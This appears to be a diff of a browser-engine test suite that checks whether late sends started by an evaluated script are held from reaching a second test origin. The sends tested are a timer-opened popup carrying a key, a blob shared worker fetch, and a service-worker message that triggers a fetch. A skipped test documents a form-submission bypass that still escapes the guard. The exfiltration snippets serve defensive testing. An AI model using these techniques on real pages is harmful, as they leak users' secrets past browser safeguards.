@@ -1,35 +1,46 @@
 // What an eval's script leaves behind, on real Chromium: a send it starts after it returned (a fetch a timer makes a
-// second later, a location change, a blob worker it starts later) reaches no one, for as long as the tab lives, and the
-// next result names it; the page's own sends to the same origin keep flowing.
+// second later, a location change, a blob worker, a window or a blob shared worker it starts later, a message it posts
+// to the site's service worker) reaches no one, for as long as the tab lives, and the next result names what it can; the
+// page's own sends (through that service worker too) and windows to that origin keep flowing.
 import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
 import { evaluate } from '../../shared/engine/ops/eval.js';
 import { PageContext } from '../../shared/engine/page-context.js';
 import { PolicyGate } from '../../shared/engine/policy-gate.js';
 import { policyFromFlags } from '../../shared/policy/flags.js';
 import type { OperationResult } from '../../shared/protocol/operations.js';
-import { loadUrl } from '../support/browser.js';
+import { loadUrl, startTestBrowser } from '../support/browser.js';
 import { ctx, useEngineSuite } from '../support/engine-suite.js';
 import { pageEval } from '../support/page-probes.js';
 import { testServerHosts } from '../support/test-policy.js';
 import { startWatchedSite, type WatchedSite } from '../support/watched-site.js';
 
-const suite = useEngineSuite();
 let watched: WatchedSite;
+// The second origin may be read, so a navigation or a window to it meets no policy refusal: only the hold stops it. The
+// browser's host judges the tab's popups by the same policy.
+const gate = new PolicyGate(() => policyFromFlags({ allow: [new URL(watched.origin).host], trust: testServerHosts() }));
+const suite = useEngineSuite({
+  startBrowser: async () => {
+    watched = await startWatchedSite();
+    return startTestBrowser(gate);
+  },
+});
 let page: PageContext;
+let tabId: string;
 const pages: PageContext[] = [];
+let stopPopups: () => void;
 
 beforeAll(async () => {
-  watched = await startWatchedSite();
-  // The second origin may be read, so a navigation or a window to it meets no policy refusal: only the hold stops it.
-  const policy = () => policyFromFlags({ allow: [new URL(watched.origin).host], trust: testServerHosts() });
-  const gate = new PolicyGate(policy);
+  // An engine listens for the tab's popups, as the tab session does: a window the page opens is guarded, not let go.
+  stopPopups = suite.browser.host.onPopup(async () => undefined);
   const tab = await suite.browser.host.create('about:blank', { focus: false });
+  tabId = tab.id;
   page = new PageContext(await suite.browser.host.cdp(tab.id), gate);
   pages.push(page);
   await page.frames.init();
   await loadUrl(page, suite.server.url('egress-late.html'));
 });
 afterAll(async () => {
+  stopPopups?.();
   for (const each of pages) each.dispose();
   await watched?.close();
 });
@@ -101,9 +112,85 @@ describe('what a script starts after it returned stays held', () => {
     expect(heldLater(await run('1'))).toEqual(['GET W/worker-late (Fetch)']);
   });
 
+  it('a window a timer opens, whose first request is held and the empty window closed', async () => {
+    // The browser tells of the popup's target as it opens (auto-attach) and as it closes.
+    const popups = new Set<string>();
+    let closed = false;
+    const stop = suite.browser.browser.connection.on((event) => {
+      const info = event.params['targetInfo'] as { openerId?: string } | undefined;
+      if (event.method === 'Target.attachedToTarget' && info?.openerId === tabId)
+        popups.add(String(event.params['sessionId']));
+      if (event.method === 'Target.detachedFromTarget' && popups.has(String(event.params['sessionId']))) closed = true;
+    });
+    await run(`setTimeout(() => { window.open('${watched.origin}/popup-late?key=' + encodeURIComponent(${KEY}));
+      window.opened = true; }, 1000); 0`);
+    await until('opened');
+    // Settled either way: the request reached the site, or the window the page opened is closed.
+    const deadline = Date.now() + 20_000;
+    while (!closed && !watched.requests.some((path) => path.startsWith('/popup-late'))) {
+      if (Date.now() > deadline) throw new Error(popups.size > 0 ? 'the popup neither loaded nor closed' : 'no popup');
+      await new Promise((resolve) => setTimeout(resolve, 100));
+    }
+    stop();
+    expect(await reached()).toEqual([]);
+    expect(heldLater(await run('1'))).toEqual(['GET W/popup-late?key=[redacted 34 chars] (navigation)']);
+  });
+
+  // Still escapes, in both backends: a form the script submits (into a new window or its own frame) or a link it
+  // clicks names no initiator stack (measured on Chromium 156: initiator {type: 'other'}), and the eval's user
+  // activation lasts 5 s, so neither the stack nor the gesture tells it from the person's own submit. Unskip to see it.
+  it.skip('a form a timer submits into a new window', async () => {
+    await run(`setTimeout(() => { const form = document.createElement('form');
+      form.target = '_blank'; form.method = 'post'; form.action = '${watched.origin}/form-late';
+      form.append(Object.assign(document.createElement('input'), { name: 'key', value: ${KEY} }));
+      document.body.append(form); form.submit(); window.submitted = true; }, 1000); 0`);
+    await until('submitted');
+    const deadline = Date.now() + 5_000;
+    while (!watched.requests.includes('/form-late') && Date.now() < deadline)
+      await new Promise((resolve) => setTimeout(resolve, 100));
+    expect(await reached()).toEqual([]);
+  });
+
+  it('a shared worker a timer starts from a blob, which no session of the tab reaches', async () => {
+    const worker = `onconnect = (event) => { const port = event.ports[0];
+      fetch('${watched.origin}/shared-late').catch(() => undefined).then(() => port.postMessage(0)); };`;
+    await run(`setTimeout(() => {
+      const shared = new SharedWorker(URL.createObjectURL(new Blob([${JSON.stringify(worker)}], { type: 'text/javascript' })));
+      shared.port.onmessage = () => (window.sharedDone = true);
+    }, 1000); 0`);
+    await until('sharedDone');
+    expect(await reached()).toEqual([]);
+  });
+
+  it('a message the script posts to the site’s service worker, which fetches as it is told', async () => {
+    // The site's worker controls the page first (the page's own doing, not the script's).
+    await pageEval(
+      page,
+      `navigator.serviceWorker.register('/egress-late-sw.js').then(() => navigator.serviceWorker.controller
+        ? true : new Promise((resolve) => navigator.serviceWorker.addEventListener('controllerchange', () => resolve(true))))`,
+    );
+    await run(`navigator.serviceWorker.onmessage = () => (window.swDone = true);
+      setTimeout(() => navigator.serviceWorker.controller.postMessage('${watched.origin}/sw-late'), 1000); 0`);
+    await until('swDone');
+    expect(await reached()).toEqual([]);
+  });
+
   it('the page’s own sends to that origin flow, after every script', async () => {
     await run('1');
     expect(await reached()).toEqual([]);
     expect(watched.requests).toEqual(['/page-own']);
+  });
+
+  it('a window the page itself opens to that origin loads', async () => {
+    await run('1');
+    await page.cdp.send('Runtime.evaluate', {
+      expression: `window.open('${watched.origin}/page-window')`,
+      userGesture: true,
+    });
+    const deadline = Date.now() + 20_000;
+    while (!watched.requests.includes('/page-window')) {
+      if (Date.now() > deadline) throw new Error('the page’s own window never loaded');
+      await new Promise((resolve) => setTimeout(resolve, 100));
+    }
   });
 });
